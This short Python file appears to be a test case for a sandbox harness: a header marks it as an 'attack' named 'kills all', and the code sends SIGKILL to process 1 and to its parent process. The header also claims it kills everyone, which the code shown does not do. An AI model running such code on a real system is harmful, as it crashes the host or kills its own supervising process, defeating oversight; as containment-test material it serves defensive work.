# /// attack
# name = "kills all"
# threat = "killing"
# tries = "Sends SIGKILL to process 1, to its parent and to everyone."
# walls = true
# ///

import os, signal

parent = os.getppid()
for pid in (1, parent):
    if pid not in (0, os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
